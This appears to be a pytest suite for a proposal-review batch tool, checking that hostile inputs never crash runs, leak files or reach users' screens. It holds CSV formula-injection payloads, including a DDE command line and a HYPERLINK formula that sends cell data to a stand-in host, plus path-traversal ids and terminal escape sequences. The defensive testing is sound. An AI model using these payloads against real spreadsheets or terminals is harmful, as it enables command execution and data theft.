"""The batch under hostile input: it never stops, never leaks, never writes over anything.

One test (or a few) per root cause found by trying the batch as an attacker and as a tired
budget officer would: one input breaking the run, a review reading a local file through its
rubric id, formulas in summary cells, outputs over inputs or over each other, inputs skipped
without a word, control characters on other people's screens, orphaned workers.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import json
import os
import signal
import subprocess
import sys
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from esj_review.batch import run as batch_run
from esj_review.batch import worker
from esj_review.batch.cache import STATE_DIR
from esj_review.batch.run import Settings, Silent, run_batch
from esj_review.cli import app
from esj_review.core.names import tag
from esj_review.core.rubrics import load_rubric
from esj_review.core.templates import sheet_columns
from tests.conftest import EXAMPLES

RUNNER = CliRunner()
EXAMPLE = EXAMPLES / "reduced-fare-transit.yaml"


def review(pid: str, title: str = "A proposal", **proposal: Any) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    data = copy.deepcopy(data)
    data["proposal"].update(id=pid, title=title, **proposal)
    return data


def write(path: Path, data: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def batch(*args: str) -> Any:
    return RUNNER.invoke(app, ["batch", *args])


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def settings(out: Path, formats: tuple[str, ...] = (), **more: Any) -> Settings:
    return Settings(out, formats, "archival", "king-county-esj", True, dt.date(2027, 1, 1), **more)


# 1. One bad input never aborts the batch -------------------------------------------------


def test_an_unexpected_failure_in_one_proposal_is_an_error_row_and_the_rest_go_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for n in range(1, 4):
        write(tmp_path / "in" / f"p{n}.yaml", review(f"P-{n}"))
    real = worker._process

    def fragile(job: Any, s: Settings) -> Any:
        if job.source.endswith("p2.yaml"):
            raise ZeroDivisionError("a bug this input uncovered")
        return real(job, s)

    monkeypatch.setattr(worker, "_process", fragile)
    result = batch(str(tmp_path / "in"), "--out", str(tmp_path / "out"), "-j", "1", "-f", "none")
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert [r["id"] for r in rows(tmp_path / "out" / "summary.csv")] == ["P-1", "P-3"]
    (error,) = rows(tmp_path / "out" / "errors.csv")
    assert error["source"].endswith("p2.yaml")
    assert error["proposal_id"] == "P-2"
    assert "internal error (ZeroDivisionError: a bug this input uncovered)" in error["message"]
    assert "Traceback" not in error["message"]


def test_debug_puts_the_traceback_in_the_error_row(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "in" / "p1.yaml", review("P-1"))

    def broken(job: Any, s: Settings) -> Any:
        raise KeyError("boom")

    monkeypatch.setattr(worker, "_process", broken)
    out = tmp_path / "out"
    result = RUNNER.invoke(
        app, ["--debug", "batch", str(tmp_path / "in"), "--out", str(out), "-j", "1"]
    )
    assert result.exit_code == 1
    (error,) = rows(out / "errors.csv")
    assert "Traceback (most recent call last)" in error["message"]


def test_a_worker_that_dies_costs_only_its_own_proposals(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker killed mid-proposal (out of memory, kill -9): the proposals that were in
    flight are redone one at a time, so only the one that kills its worker is lost."""
    for n in range(1, 7):
        write(tmp_path / "in" / f"p{n}.yaml", review(f"P-{n}"))
    real = worker._process

    def deadly(job: Any, s: Settings) -> Any:
        if job.source.endswith("p3.yaml"):
            os._exit(9)  # the worker process dies, as the kernel's OOM killer would do it
        return real(job, s)

    monkeypatch.setattr(worker, "_process", deadly)  # workers are forked after this
    result = run_batch([tmp_path / "in"], settings(tmp_path / "out", ("json",)), 2, Silent())
    (lost,) = result.problems
    assert lost["source"].endswith("p3.yaml")
    assert "not processed: the worker process stopped" in lost["message"]
    assert sorted(r["id"] for r in result.records) == ["P-1", "P-2", "P-4", "P-5", "P-6"]


def test_a_truncated_cache_entry_is_dropped_and_the_proposal_redone(tmp_path: Path) -> None:
    write(tmp_path / "in" / "p1.yaml", review("P-1"))
    out = tmp_path / "out"
    assert batch(str(tmp_path / "in"), "--out", str(out), "-f", "json", "-j", "1").exit_code == 0
    (state,) = (out / STATE_DIR).iterdir()
    state.write_text('{"key": "abc", "rec')  # cut off by a full disk or a kill
    again = batch(str(tmp_path / "in"), "--out", str(out), "-f", "json", "-j", "1")
    assert again.exit_code == 0, again.output
    assert "1 proposals reviewed (0 unchanged, skipped)" in again.output
    assert rows(out / "errors.csv") == []


def test_a_full_disk_is_an_error_row_per_proposal_not_a_crash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    from esj_review.core import files

    write(tmp_path / "in" / "p1.yaml", review("P-1"))
    real = files.atomic_write

    def full(path: Path, content: Any) -> None:
        if (
            str(path).endswith(".json")
            and STATE_DIR not in str(path)
            and "summary" not in str(path)
        ):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
        real(path, content)

    monkeypatch.setattr(worker, "atomic_write", full)
    result = batch(str(tmp_path / "in"), "--out", str(tmp_path / "out"), "-f", "json", "-j", "1")
    assert result.exit_code == 1
    (error,) = rows(tmp_path / "out" / "errors.csv")
    assert "No space left on device" in error["message"]


# 2. A review never reads a local file through its rubric ----------------------------------


def test_a_rubric_id_that_is_a_path_reads_nothing(tmp_path: Path) -> None:
    secret = tmp_path / "secret.yaml"
    secret.write_text("root-password: hunter2\nanother-secret-key: 1\n")
    data = review("P-1")
    data["rubric"] = {"id": str(secret), "version": "1.0.0"}
    write(tmp_path / "in" / "p.yaml", data)
    out = tmp_path / "out"
    result = batch(str(tmp_path / "in"), "--out", str(out), "-j", "1", "-f", "none")
    assert result.exit_code == 1
    written = "".join(p.read_text() for p in out.iterdir() if p.is_file())
    assert "root-password" not in written and "another-secret-key" not in written
    (error,) = rows(out / "errors.csv")
    assert error["field"] == "rubric.id"
    assert "no rubric named" in error["message"]


# 3. Summary cells never run as formulas --------------------------------------------------


HOSTILE_CELLS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
]


def test_summary_and_errors_cells_never_start_a_formula(tmp_path: Path) -> None:
    for n, text in enumerate(HOSTILE_CELLS):
        write(tmp_path / "in" / f"p{n}.yaml", review(f"P-{n}", title=text, department=text))
    write(tmp_path / "in" / "bad.yaml", {**review("=1+1", title="=2+2"), "answers": "=3+3"})
    out = tmp_path / "out"
    batch(str(tmp_path / "in"), "--out", str(out), "-j", "1", "-f", "none")
    summary = rows(out / "summary.csv")
    assert len(summary) == len(HOSTILE_CELLS)
    for cells in [*summary, *rows(out / "errors.csv")]:
        for value in cells.values():
            start = value.lstrip(" ")
            assert not start.startswith(("=", "+", "@", "\t", "\uff1d")), value
            assert not start.startswith("-") or _is_number(value), value
    titles = {r["title"] for r in summary}
    assert "'-2+3" in titles and '\'=HYPERLINK("http://example.invalid/?"&A1,"Click")' in titles
    assert "' =1+1" in titles  # a spreadsheet trims the space before it looks


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_negative_amounts_stay_numbers(tmp_path: Path) -> None:
    data = review("P-1")
    data["answers"]["amount"] = -7150000
    write(tmp_path / "in" / "p.yaml", data)
    batch(str(tmp_path / "in"), "--out", str(tmp_path / "out"), "-j", "1", "-f", "none")
    (row,) = rows(tmp_path / "out" / "summary.csv")
    assert row["amount"] == "-7150000"


# 5-6. Outputs never over inputs, special files or each other --------------------------------


def test_out_that_is_an_input_folder_is_refused(tmp_path: Path) -> None:
    write(tmp_path / "inout" / "p.yaml", review("P-1"))
    before = (tmp_path / "inout" / "p.yaml").read_bytes()
    result = batch(str(tmp_path / "inout"), "--out", str(tmp_path / "inout"), "-f", "json")
    assert result.exit_code == 2
    assert "also an input folder" in result.output
    assert sorted(p.name for p in (tmp_path / "inout").iterdir()) == ["p.yaml"]
    assert (tmp_path / "inout" / "p.yaml").read_bytes() == before


def test_out_inside_an_input_folder_is_not_read_back(tmp_path: Path) -> None:
    write(tmp_path / "in" / "p.yaml", review("P-1"))
    out = tmp_path / "in" / "out"
    for _ in range(2):
        result = batch(str(tmp_path / "in"), "--out", str(out), "-f", "json", "-j", "1")
        assert result.exit_code == 0, result.output
        assert [r["source"] for r in rows(out / "summary.csv")] == [str(tmp_path / "in/p.yaml")]


def test_an_output_never_replaces_an_input_named_on_the_command_line(tmp_path: Path) -> None:
    target = tmp_path / "P-1.json"  # the JSON output of proposal P-1 would have this name
    target.write_text(json.dumps(review("P-1"), default=str))
    before = target.read_bytes()
    result = batch(str(target), "--out", str(tmp_path), "-f", "json", "-j", "1")
    assert result.exit_code == 1
    assert target.read_bytes() == before
    (error,) = rows(tmp_path / "errors.csv")
    assert "one of this batch's inputs" in error["message"]


@pytest.mark.parametrize("pid", ["portfolio", "summary", "errors", "SUMMARY"])
def test_an_id_never_takes_the_batchs_own_files(tmp_path: Path, pid: str) -> None:
    write(tmp_path / "in" / "a.yaml", review(pid))
    write(tmp_path / "in" / "b.yaml", review("P-2"))
    out = tmp_path / "out"
    result = batch(str(tmp_path / "in"), "--out", str(out), "-f", "json,html", "-j", "1")
    assert result.exit_code == 0, result.output
    summary = {r["id"]: r for r in rows(out / "summary.csv")}
    assert set(summary) == {pid, "P-2"}  # the summary is the batch's, not the proposal's
    outputs = summary[pid]["outputs"].split("; ")
    assert all(not o.lower().startswith(("summary.", "portfolio.", "errors.")) for o in outputs)
    assert all((out / o).is_file() for o in outputs)
    (warning,) = rows(out / "errors.csv")
    assert warning["severity"] == "warning" and "written as" in warning["message"]


def test_ids_keep_their_letters_and_one_name_per_spelling(tmp_path: Path) -> None:
    composed, decomposed = "\u00c5-1", "A\u030a-1"
    for n, pid in enumerate(["計画-1", composed, decomposed, "CON", "aux", "../../x", "-rf"]):
        write(tmp_path / "in" / f"p{n}.yaml", review(pid))
    out = tmp_path / "out"
    batch(str(tmp_path / "in"), "--out", str(out), "-f", "json", "-j", "1")
    names = {r["source"][-7:]: r["outputs"] for r in rows(out / "summary.csv")}
    assert names["p0.yaml"] == "計画-1.json"
    assert names["p1.yaml"] == "\u00c5-1.json"
    # the same id spelled the other way is the same id: one proposal, the first one read
    assert "p2.yaml" not in names
    (warning,) = rows(out / "errors.csv")
    assert warning["source"].endswith("p2.yaml") and "p1.yaml" in warning["message"]
    assert names["p3.yaml"] == "CON_.json" and names["p4.yaml"] == "aux_.json"
    assert names["p5.yaml"] == "x.json" and names["p6.yaml"] == "rf.json"
    assert all(unicodedata.is_normalized("NFC", p.name) for p in out.iterdir())
    assert [p.parent for p in out.rglob("*.json") if STATE_DIR not in p.parts] == [out] * 7


def test_different_ids_with_one_file_name_get_a_tag_made_from_the_id(tmp_path: Path) -> None:
    names = []
    for order in (["A-1", "a-1"], ["a-1", "A-1"]):
        folder = tmp_path / "-".join(order)
        for n, pid in enumerate(order):
            write(folder / "in" / f"p{n}.yaml", review(pid))
        batch(str(folder / "in"), "--out", str(folder / "out"), "-f", "json", "-j", "1")
        names.append({r["id"]: r["outputs"] for r in rows(folder / "out" / "summary.csv")})
        (warning,) = rows(folder / "out" / "errors.csv")
        assert warning["proposal_id"] == order[1]
        assert warning["message"] == (
            f"another file has this name; written as {order[1]}-{tag(order[1])}"
        )
    assert names == [
        {"A-1": "A-1.json", "a-1": f"a-1-{tag('a-1')}.json"},
        {"a-1": "a-1.json", "A-1": f"A-1-{tag('A-1')}.json"},
    ]
    assert tag("a-1") != tag("A-1")


# 7. Nothing is skipped without a word ------------------------------------------------------


def test_links_to_nothing_fifos_and_empty_inputs_are_error_rows(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    write(folder / "good.yaml", review("P-1"))
    (folder / "dangling.yaml").symlink_to(tmp_path / "gone.yaml")
    os.mkfifo(folder / "pipe.yaml")
    (folder / "empty.csv").write_bytes(b"")
    (folder / "empty.yaml").write_text("# nothing here\n")
    (folder / "linked").symlink_to(tmp_path, target_is_directory=True)
    out = tmp_path / "out"
    result = batch(str(folder), "--out", str(out), "-j", "1", "-f", "none")
    assert result.exit_code == 1
    errors = {Path(r["source"]).name: r for r in rows(out / "errors.csv")}
    assert "link to nothing" in errors["dangling.yaml"]["message"]
    assert "FIFO" in errors["pipe.yaml"]["message"]
    assert "empty" in errors["empty.csv"]["message"]
    assert "empty" in errors["empty.yaml"]["message"]
    assert errors["linked"]["severity"] == "warning"
    assert "4 inputs with errors" in result.output


def test_a_fifo_named_on_the_command_line_is_refused_without_waiting(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "sheet.csv")
    out = tmp_path / "out"
    child = subprocess.run(
        [
            sys.executable,
            "-m",
            "esj_review",
            "batch",
            str(tmp_path / "sheet.csv"),
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=60,  # a read of the FIFO would wait here forever
    )
    assert child.returncode == 1
    (error,) = rows(out / "errors.csv")
    assert "FIFO" in error["message"]


def test_an_unreadable_subfolder_is_an_error_row(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "in"
    write(folder / "ok" / "p.yaml", review("P-1"))
    write(folder / "locked" / "q.yaml", review("P-2"))
    if os.geteuid() == 0:  # root reads any folder: make the search fail as it would for others
        real = os.scandir

        def scandir(path: Any = ".") -> Any:
            if str(path).endswith("locked"):
                raise PermissionError(13, "Permission denied", str(path))
            return real(path)

        monkeypatch.setattr(os, "scandir", scandir)
    else:  # pragma: no cover - CI runs as root
        (folder / "locked").chmod(0)
    out = tmp_path / "out"
    result = batch(str(folder), "--out", str(out), "-j", "1", "-f", "none")
    assert result.exit_code == 1
    (error,) = rows(out / "errors.csv")
    assert error["source"].endswith("locked")
    assert "cannot search" in error["message"]


# 8. Control characters never reach other people's screens ---------------------------------


def test_control_and_bidi_characters_are_shown_not_acted_on(tmp_path: Path) -> None:
    title = "Budget \u202eFDP.exe\u202c \x1b[31mred\x1b[0m \x07bell"
    write(tmp_path / "in" / "p.yaml", review("P-\x1b]0;owned\x07", title=title))
    out = tmp_path / "out"
    result = batch(str(tmp_path / "in"), "--out", str(out), "-j", "1", "-f", "none")
    assert "\x1b" not in result.output and "\x07" not in result.output
    html = (out / "portfolio.html").read_text(encoding="utf-8")
    for raw in ("\x1b", "\x07", "\u202e"):
        assert raw not in html
    assert "[U+202E]FDP.exe" in html and "[U+001B][31mred" in html
    for cells in rows(out / "summary.csv"):
        assert not any(ch in v for v in cells.values() for ch in "\x1b\x07\u202e")


def test_progress_lines_show_control_characters(tmp_path: Path) -> None:
    write(tmp_path / "in" / "p.yaml", review("P-\x1b[2J1"))
    child = subprocess.run(
        [
            sys.executable,
            "-m",
            "esj_review",
            "batch",
            str(tmp_path / "in"),
            "--out",
            str(tmp_path / "out"),
            "-f",
            "none",
            "-j",
            "1",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "\x1b" not in child.stderr
    assert "P-[U+001B][2J1" in child.stderr


# 10. Workers die with their parent; SIGTERM stops like Ctrl-C ------------------------------


def _children(pid: int) -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.add(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def _start_slow_batch(tmp_path: Path) -> tuple[subprocess.Popen[str], set[int]]:
    for n in range(12):
        write(tmp_path / "in" / f"p{n}.yaml", review(f"P-{n}"))
    child = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "esj_review",
            "batch",
            str(tmp_path / "in"),
            "--out",
            str(tmp_path / "out"),
            "-f",
            "pdf",
            "-j",
            "2",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert child.stderr is not None
    child.stderr.readline()  # one proposal is done: the workers are running
    workers = _children(child.pid)
    assert workers
    return child, workers


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_workers_die_with_a_killed_parent(tmp_path: Path) -> None:
    child, workers = _start_slow_batch(tmp_path)
    child.kill()  # SIGKILL: the parent cannot clean anything up
    child.wait()
    deadline = time.monotonic() + 30
    while any(_alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(_alive(w) for w in workers)


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_sigterm_stops_like_ctrl_c(tmp_path: Path) -> None:
    child, workers = _start_slow_batch(tmp_path)
    child.send_signal(signal.SIGTERM)
    _, err = child.communicate(timeout=120)
    assert child.returncode == 130
    assert "Interrupted:" in err and "Run the same command again to continue." in err
    assert "Traceback" not in err
    assert not any(_alive(w) for w in workers)


# 12. Smaller things ------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["nan", "-1", "101", "inf"])
def test_fail_under_must_be_a_score(tmp_path: Path, value: str) -> None:
    write(tmp_path / "in" / "p.yaml", review("P-1"))
    result = batch(str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--fail-under", value)
    assert result.exit_code == 2
    assert "give a score from 0 to 100" in result.output


def test_more_jobs_than_work_starts_only_what_is_needed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for n in range(2):
        write(tmp_path / "in" / f"p{n}.yaml", review(f"P-{n}"))
    sizes: list[int] = []
    real = batch_run._pool

    def pool(workers: int) -> Any:
        sizes.append(workers)
        return real(workers)

    monkeypatch.setattr(batch_run, "_pool", pool)
    result = run_batch([tmp_path / "in"], settings(tmp_path / "out", ("json",)), 300, Silent())
    assert len(result.records) == 2
    assert sizes == [2]


def test_the_sheet_template_has_the_optional_items_column(tmp_path: Path) -> None:
    columns = sheet_columns(load_rubric("king-county-esj"))
    assert "rubric.enable" in columns
    result = RUNNER.invoke(app, ["template", "--format", "csv", "-o", str(tmp_path / "t.csv")])
    assert result.exit_code == 0, result.output
    header = (tmp_path / "t.csv").read_text().splitlines()[0].split(",")
    assert header == columns


def test_score_shows_a_titles_terminal_escapes_instead_of_running_them(tmp_path: Path) -> None:
    path = write(tmp_path / "p.yaml", review("P-\x1b[2J", title="\x1b]0;owned\x07Title\u202e"))
    result = RUNNER.invoke(app, ["score", str(path)])
    assert result.exit_code == 0, result.output
    assert not any(ch in result.output for ch in "\x1b\x07\u202e")
    assert "[U+001B]]0;owned[U+0007]Title[U+202E]" in result.output
    assert "P-[U+001B][2J" in result.output


def test_a_portfolio_that_cannot_be_made_is_one_line_and_the_rest_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from esj_review.report import pdf

    write(tmp_path / "in" / "p.yaml", review("P-1"))

    def broken(*args: Any, **kwargs: Any) -> bytes:
        raise AttributeError("a renderer bug")

    monkeypatch.setattr(pdf, "html_to_pdf", broken)
    out = tmp_path / "out"
    result = batch(str(tmp_path / "in"), "--out", str(out), "-f", "json,pdf", "-j", "1")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert "the summary or the portfolio" in result.output and "a renderer bug" in result.output
    assert [r["id"] for r in rows(out / "summary.csv")] == []  # P-1's own PDF failed too
    assert (out / "portfolio.html").is_file() and not (out / "portfolio.pdf").exists()
